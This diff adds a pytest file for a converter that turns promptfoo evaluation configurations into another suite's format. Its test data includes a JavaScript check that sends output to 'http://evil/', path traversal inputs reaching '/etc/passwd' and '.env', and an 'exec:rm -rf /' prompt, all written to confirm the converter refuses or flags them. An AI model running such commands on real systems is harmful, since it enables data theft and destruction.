@@ -1,0 +1,319 @@
+"""A configuration of promptfoo becomes one of the general suite with its dataset; nothing of it is run or dropped."""
+
+import json
+import os
+
+import pytest
+
+from steelyard import ConfigError
+from steelyard.building.nodes import plain
+from steelyard.building.read import parse
+from steelyard.config.conversion import converted
+
+LOCAL = "http://127.0.0.1:9/v1"
+BASE = """
+prompts: ["Q: {{question}}"]
+providers: [{id: "openai:chat:small", config: {apiBaseUrl: "http://127.0.0.1:9/v1"}}]
+"""
+
+
+@pytest.fixture
+def convert(tmp_path):
+    """Writes files, converts the configuration, and gives (the new configuration, its rows, its notes)."""
+
+    def write_and_convert(text, **files):
+        for name, content in files.items():
+            path = tmp_path / name.replace("__", ".").replace("_in_", "/")
+            path.parent.mkdir(exist_ok=True)
+            path.write_text(content, encoding="utf-8")
+        (tmp_path / "promptfooconfig.yaml").write_text(text, encoding="utf-8")
+        result = converted(tmp_path / "promptfooconfig.yaml")
+        new = plain(parse(result.text("promptfooconfig.yaml", "new.jsonl"), "new.yaml"))
+        return new, [json.loads(line) for line in result.dataset().splitlines()], "\n".join(result.notes.lines())
+
+    return write_and_convert
+
+
+def test_assertions_of_every_test_are_checks_of_every_row_and_those_of_one_its_own(convert):
+    new, rows, notes = convert(
+        BASE
+        + """
+defaultTest:
+  assert: [{type: not-contains, value: sorry}, {type: llm-rubric, value: "answers {{question}} politely"}]
+tests:
+  - vars: {question: 1+1?}
+    assert: [{type: equals, value: "2"}]
+  - vars: {question: Hello}
+"""
+    )
+    every = [
+        {"not": {"contains": "sorry", "ignore_case": False, "whole_words": False}},
+        {"guideline": "answers {{question}} politely"},
+    ]
+    assert new["scorers"] == [{"checks": {"every": every}}]
+    assert rows == [{"question": "1+1?", "checks": [{"exact_match": "2"}]}, {"question": "Hello"}]
+    assert (new["samples"], new["prompts"]) == (
+        {"file": "new.jsonl", "columns": {"input": "question"}},
+        "Q: {{question}}",
+    )
+    assert (new["models"], new["endpoint"]) == (["small"], LOCAL)
+    assert "grader" in notes
+    assert new["judge"]["model"]["openai_compatible"]["name"] == "gpt-5"
+
+
+def test_one_assertion_for_all_is_a_scorer_and_one_of_weight_0_stands_apart(convert):
+    tests = "tests: [{vars: {question: a}}]\n"
+    new, _, _ = convert(BASE + "defaultTest: {assert: [{type: is-refusal}]}\n" + tests)
+    assert new["scorers"] == ["refusal"]
+    both = "[{type: is-refusal}, {type: equals, value: x}, {type: is-json, weight: 0, metric: json}]"
+    new, _, _ = convert(BASE + f"defaultTest: {{assert: {both}}}\n" + tests)
+    first, apart = new["scorers"]
+    assert first == {"checks": {"every": ["refusal", {"exact_match": "x"}]}}
+    assert apart["name"] == "json"
+
+
+def test_lists_of_values_and_patterns_of_files_make_every_combination(convert):
+    _, rows, _ = convert(
+        BASE
+        + """
+tests:
+  - vars: {question: file://docs/*.txt, tone: [kind, curt], numbers: [1, 2]}
+    assert: [{type: contains, value: "{{tone}}"}]
+""",
+        docs_in_a__txt="first\n",
+        docs_in_b__txt="second\n",
+    )
+    assert [(row["question"], row["tone"], row["numbers"], row["checks"][0]["contains"]) for row in rows] == [
+        ("first", "kind", [1, 2], "kind"),
+        ("first", "curt", [1, 2], "curt"),
+        ("second", "kind", [1, 2], "kind"),
+        ("second", "curt", [1, 2], "curt"),
+    ]
+
+
+def test_a_table_of_tests_has_columns_with_a_meaning(convert):
+    new, rows, notes = convert(
+        BASE + "tests: file://cases.csv\n",
+        cases__csv="question,city,__expected1,__expected2,__metric,__threshold,__config:__expected2:threshold,"
+        "__description,__metadata:level\n"
+        '"Where, exactly?",Rome,icontains:rome,levenshtein:Rome,place,,2,first,hard\n'
+        "Why?,,,,,,,,\n",
+    )
+    assert rows[0] == {
+        "question": "Where, exactly?",
+        "city": "Rome",
+        "level": "hard",
+        "description": "first",
+        "checks": [
+            {"contains": "rome", "whole_words": False, "name": "place"},
+            {"levenshtein": {"most_edits": 2.0}, "value": "Rome", "name": "place"},
+        ],
+    }
+    assert rows[1] == {"question": "Why?", "city": ""}
+    assert (new["scorers"], notes) == (["checks"], "")
+
+
+def test_scenarios_cross_their_data_with_their_tests(convert):
+    _, rows, _ = convert(
+        BASE
+        + """
+scenarios:
+  - config: [{vars: {question: a, sum: 1}}, {vars: {question: b, sum: 2}}]
+    tests: [{assert: [{type: equals, value: "{{sum}}"}]}, {vars: {question: c}, assert: [{type: is-refusal}]}]
+"""
+    )
+    assert [(row["question"], row["checks"]) for row in rows] == [
+        ("a", [{"exact_match": "1"}]),
+        ("c", ["refusal"]),
+        ("b", [{"exact_match": "2"}]),
+        ("c", ["refusal"]),
+    ]
+
+
+def test_several_prompts_of_a_file_and_several_providers_make_a_grid(convert):
+    new, _, _ = convert(
+        """
+prompts: [file://p.txt, {id: p2.md, label: long one}]
+providers:
+  - openrouter:meta/llama-4
+  - {id: "openai:gpt-4o", label: big, config: {temperature: 0, apiKey: sk-very-secret-1234567890}}
+tests: [{vars: {text: a}, assert: [{type: is-json}]}]
+""",
+        p__txt="One {{ text }}\n---\nTwo {{text}} {% raw %}{{x}}{% endraw %}\n",
+        p2__md="Three {{text}}\n",
+    )
+    assert new["prompts"] == {
+        "p": "One {{text}}",
+        "p-2": "Two {{text}} {{{{x}}}}",
+        "long-one": "Three {{text}}\n",
+    }
+    assert new["models"] == {
+        "meta-llama-4": {
+            "openai_compatible": {
+                "name": "meta/llama-4",
+                "base_url": "https://openrouter.ai/api/v1",
+                "api_key": "${OPENROUTER_API_KEY}",
+            }
+        },
+        "big": {
+            "openai_compatible": {
+                "name": "gpt-4o",
+                "base_url": "https://api.openai.com/v1",
+                "api_key": "${OPENAI_API_KEY}",
+                "parameters": {"temperature": 0},
+            }
+        },
+    }
+
+
+def test_chat_prompts_and_http_providers_become_targets(convert):
+    new, rows, _ = convert(
+        """
+prompts: [file://chat.json, "Plain {{text}} for {{target}}"]
+providers:
+  - {id: "openai:chat:small", config: {apiBaseUrl: "http://127.0.0.1:9/v1"}, prompts: [chat.json]}
+  - id: http
+    label: bot
+    prompts: ["Plain {{text}} for {{target}}"]
+    config:
+      url: http://127.0.0.1:9/ask
+      headers: {authorization: "Bearer {{env.BOT_KEY}}", x-api-key: abc}
+      body: {q: "{{ prompt }}"}
+      transformResponse: json.choices[0].text
+tests: [{vars: {text: a, target: b}, assert: [{type: contains, value: x}]}]
+""",
+        chat__json='[{"role": "developer", "content": "Be brief."}, {"role": "user", "content": "Read {{text}}"}]',
+    )
+    model = {"openai_compatible": {"name": "small", "base_url": LOCAL}}
+    assert new["targets"] == {
+        "chat@small": {
+            "prompt": {"system": "Be brief.", "template": "Read {{question}}", "model": model},
+            "tags": {"prompt": "chat", "model": "small"},
+        },
+        "prompt@bot": {
+            "http": {
+                "url": "http://127.0.0.1:9/ask",
+                "method": "POST",
+                "headers": {"authorization": "Bearer ${BOT_KEY}"},
+                "body": {"q": "{{prompt}}"},
+                "response": {"text": "choices[0].text"},
+                "template": "Plain {{question}} for {{metadata.target_value}}",
+            },
+            "tags": {"prompt": "prompt", "model": "bot"},
+        },
+    }
+    assert rows[0]["target_value"] == "b"
+
+
+def test_the_only_prompt_with_several_turns_becomes_the_input_of_the_rows(convert):
+    turns = [
+        {"role": "user", "content": "1+{{n}}?"},
+        {"role": "assistant", "content": "2"},
+        {"role": "user", "content": "Sure?"},
+    ]
+    new, rows, _ = convert(
+        BASE.replace('["Q: {{question}}"]', "file://chat.json")
+        + "tests: [{vars: {n: 1}, assert: [{type: contains, value: x}]}]",
+        chat__json=json.dumps(turns),
+    )
+    assert "prompts" not in new
+    assert rows[0]["n"][0] == {"role": "user", "content": "1+1?"}
+
+
+def test_a_threshold_joins_all_assertions_of_its_test(convert):
+    new, rows, _ = convert(
+        BASE
+        + """
+defaultTest: {assert: [{type: is-json}]}
+tests: [{vars: {question: a}, threshold: 0.5, assert: [{type: starts-with, value: "{"}]}, {vars: {question: b}}]
+"""
+    )
+    (joined,) = rows[0]["checks"]
+    assert [*joined] == ["any_of"]
+    assert joined["any_of"][1] == {"starts_with": "{"}
+    assert (new["scorers"], len(rows[1]["checks"])) == (["checks"], 1)
+
+
+def test_what_is_not_taken_over_is_named_with_its_line(convert):
+    _, rows, notes = convert(
+        BASE
+        + """
+derivedMetrics: [{name: x, value: y}]
+tests:
+  - vars: {question: a}
+    providers: [small]
+    options: {transformVars: "({a: 1})"}
+    assert:
+      - {type: contains, value: x}
+      - {type: moderation}
+      - {type: javascript, value: "fetch('http://evil/' + output)"}
+      - {type: python, value: "file://checks.py"}
+      - {type: contains, value: y, weight: 0}
+      - {type: llm-rubric, value: kind, provider: "openai:gpt-4o"}
+"""
+    )
+    lines = {note.split(":")[-2] if "moderation" in note else note for note in notes.splitlines()}
+    assert len(lines) == 9
+    assert "promptfooconfig.yaml:12: moderation: no scorer stands for it" in notes
+    assert "promptfooconfig.yaml:13: javascript: \"fetch('http://evil/'" in notes
+    for part in ("derivedMetrics", "transformVars", "providers of single tests", "code for single tests", "weight 0"):
+        assert part in notes
+    assert rows[0]["checks"][-1] == {"guideline": "kind"}
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("tests: [{vars: {question: file://../secret.txt}, assert: [{type: is-json}]}]", "out of the folder"),
+        ("tests: [{vars: {question: file:///etc/passwd}, assert: [{type: is-json}]}]", "out of the folder"),
+        ("tests: [{vars: {question: file://link.txt}, assert: [{type: is-json}]}]", "out of the folder"),
+        ("tests: [{vars: {question: file://.env}, assert: [{type: is-json}]}]", "hidden file"),
+        ("tests: [{vars: {question: file://make.py}, assert: [{type: is-json}]}]", "is code"),
+        ("tests: [{vars: {question: file://photo.png}, assert: [{type: is-json}]}]", "is not text"),
+        ("tests: file://make.js:tests", "is code"),
+        ("tests: https://docs.google.com/spreadsheets/d/1", "not downloaded"),
+        ("tests: [{vars: {question: a}, assert: [{type: is-json, value: 'file://../x.json'}]}]", "out of the folder"),
+        ("tests: [{vars: {question: a}, assert: [{value: x}]}]", "a mapping with a type"),
+        ("tests: [3]", "a test is a mapping"),
+        ("tests: [{vars: {question: a}, assert: [{$ref: '#/nothing'}]}]", "leads to no value"),
+        ("tests: [{vars: {question: a}}]", "nothing to score"),
+        (
+            "tests: [{vars: {" + ", ".join(f"v{n}: [a, b]" for n in range(20)) + "}, assert: [{type: is-json}]}]",
+            "more than 100,000",
+        ),
+    ],
+)
+def test_a_file_that_reaches_out_or_makes_no_sense_is_refused_with_its_line(convert, tmp_path, text, message):
+    (tmp_path.parent / "secret.txt").write_text("secret")
+    os.symlink(tmp_path.parent / "secret.txt", tmp_path / "link.txt")
+    for name in (".env", "make.py", "make.js", "photo.png"):
+        (tmp_path / name).write_text("x")
+    with pytest.raises(ConfigError, match=message) as raised:
+        convert(f"{BASE}\n{text}\n")
+    assert raised.value.location is not None
+    assert raised.value.location.file.endswith("promptfooconfig.yaml")
+
+
+@pytest.mark.parametrize(
+    ("prompt", "message"),
+    [
+        ("exec:rm -rf /", "not run"),
+        ("file://p.py", "is code"),
+        ("{{ x | upper }} {{y}}", "is not read"),
+        ("{% if x %}a{% endif %}", "is not read"),
+    ],
+)
+def test_a_prompt_that_is_code_is_refused(convert, prompt, message):
+    with pytest.raises(ConfigError, match=message):
+        convert(
+            BASE.replace('"Q: {{question}}"', json.dumps(prompt))
+            + "tests: [{vars: {x: a, y: b}, assert: [{type: is-json}]}]"
+        )
+
+
+def test_a_value_is_never_a_placeholder(convert):
+    _, rows, _ = convert(
+        BASE
+        + "tests: [{vars: {question: '{{other}} {{question}}'}, assert: [{type: contains, value: '{{question}}'}]}]"
+    )
+    assert rows[0]["question"] == "{{other}} {{question}}"
